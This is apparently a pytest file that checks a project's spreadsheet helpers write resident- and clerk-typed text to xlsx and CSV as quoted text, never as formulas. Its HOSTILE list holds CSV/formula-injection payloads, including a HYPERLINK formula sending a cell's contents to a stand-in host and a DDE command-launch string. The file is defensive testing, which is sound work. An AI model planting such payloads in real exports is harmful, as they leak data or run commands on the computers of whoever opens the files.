"""Text typed by residents and clerks is written to xlsx and csv as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from wangge.core.spreadsheets import csv_row, text_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(write_only: bool) -> list[tuple[str, str, bool]]:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("t") if write_only else wb.active
    for value in HOSTILE:
        ws.append(text_row(ws, [value, 7]))
    buf = io.BytesIO()
    wb.save(buf)
    sheet = load_workbook(io.BytesIO(buf.getvalue())).worksheets[0]
    out = []
    for row in sheet.iter_rows():
        assert row[1].value == 7 and row[1].data_type == "n"  # numbers stay numbers
        out.append((row[0].value, row[0].data_type, bool(row[0].quotePrefix)))
    return out


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_that_look_like_formulas_are_stored_as_quoted_text(write_only: bool) -> None:
    for (value, data_type, quoted), typed in zip(_read_back(write_only), HOSTILE, strict=True):
        assert data_type == "s", (typed, data_type)  # a string cell, not a formula ("f")
        assert value == typed.replace("\r", "\n")  # shown as typed (XML reads a lone CR back as a line break)
        assert quoted  # Excel's ' prefix: editing the cell keeps it text


def test_plain_text_is_not_marked() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(text_row(ws, ["路灯不亮", "a-b", None]))
    assert [c.data_type for c in ws[1][:2]] == ["s", "s"] and not ws["A1"].quotePrefix and ws["C1"].value is None


def test_csv_fields_that_look_like_formulas_get_a_leading_quote() -> None:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(csv_row([*HOSTILE, "路灯", 3]))
    fields = next(csv.reader(io.StringIO(buf.getvalue())))
    assert fields[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert fields[len(HOSTILE) :] == ["路灯", "3"]
